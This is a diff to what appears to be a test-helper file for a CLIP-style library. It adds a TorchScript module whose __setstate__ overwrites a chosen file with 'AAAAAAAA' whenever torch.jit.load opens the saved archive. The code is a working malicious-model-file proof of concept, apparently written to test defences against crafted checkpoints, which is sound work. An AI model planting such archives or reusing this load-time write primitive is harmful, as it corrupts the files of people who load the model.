@@ -39,6 +39,36 @@ def save_tiny_model(path, seed: int = 0):
     return clipforge.save_model(clipforge.create_model(cfg, seed=seed), path, tokenizer=tok)
 
 
+class _FileWriter(torch.nn.Module):
+    """A scripted module whose __setstate__, which torch.jit.load runs, overwrites the file named in its state
+    through a shared memory map: what a crafted OpenAI-looking `.pt` can do to a user's files."""
+
+    def __init__(self, target: str):
+        super().__init__()
+        self.target = target
+        self.w = torch.nn.Parameter(torch.zeros(2))
+
+    def forward(self, x: torch.Tensor) -> torch.Tensor:
+        return x
+
+    @torch.jit.export
+    def __getstate__(self) -> tuple[str, torch.Tensor, bool]:
+        return (self.target, self.w, self.training)
+
+    @torch.jit.export
+    def __setstate__(self, state: tuple[str, torch.Tensor, bool]) -> None:
+        self.target = state[0]
+        self.training = state[2]
+        mapped = torch.from_file(state[0], shared=True, size=8, dtype=torch.uint8)
+        mapped.fill_(65)
+        self.w = state[1] + mapped.sum().float() * 0  # uses the map, so that TorchScript keeps the write
+
+
+def write_file_writer_archive(path, target) -> None:
+    """A TorchScript archive at `path` that overwrites `target` with b"AAAAAAAA" when torch.jit.load reads it."""
+    torch.jit.save(torch.jit.script(_FileWriter(str(target))), str(path))
+
+
 def train_shapes_model(steps: int = 800, seed: int = 0) -> Encoder:
     """A ViT (patch 8 on 32 px: a 4x4 grid) and a text tower trained with InfoNCE on shape captions."""
     torch.manual_seed(seed)
